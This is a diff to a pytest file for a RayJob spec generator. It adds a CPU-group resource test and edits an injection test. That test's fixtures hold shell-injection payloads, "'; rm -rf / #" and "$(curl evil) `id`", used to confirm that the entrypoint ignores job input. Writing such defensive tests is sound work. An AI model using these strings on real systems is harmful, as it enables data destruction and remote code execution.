@@ -1,6 +1,7 @@
 """The objects of an attempt: golden files, and a test for each guarantee."""
 
 import copy
+import json
 from pathlib import Path
 
 import pytest
@@ -98,8 +99,17 @@ def test_the_head_has_no_cpus_for_ray_and_the_driver_runs_in_the_cpu_group():
     assert (gpu["groupName"], gpu["replicas"], gpu["minReplicas"], gpu["maxReplicas"]) == ("gpu", 0, 0, 2)
 
 
+def test_what_needs_no_gpu_has_its_place_in_the_cpu_group_alone():
+    job = rayjob_of(resources={"training": {"workers": 2, "gpus": 1}})["spec"]
+    cpu, gpu = job["rayClusterSpec"]["workerGroupSpecs"]
+    assert cpu["rayStartParams"]["resources"] == """'{"raytrain-cpu-pod":1000}'"""  # as KubeRay and Ray read it
+    assert "resources" not in gpu["rayStartParams"]
+    assert "resources" not in job["rayClusterSpec"]["headGroupSpec"]["rayStartParams"]
+    assert json.loads(job["entrypointResources"]) == {"raytrain-cpu-pod": 0.001}
+
+
 def test_the_entrypoint_does_not_depend_on_the_job():
-    hostile = rayjob_of(tasks=[task(fields={"from": "'; rm -rf / #"}, templates=["$(curl evil) `id` {input}"])])
+    hostile = rayjob_of(tasks=[task(fields={"from": "'; rm -rf / #"}, templates=["$(curl evil) `id` {from} {input}"])])
     assert hostile["spec"]["entrypoint"] == "python -m raytrain run /etc/raytrain/job.yaml"
     assert "runtimeEnvYAML" not in hostile["spec"]
 
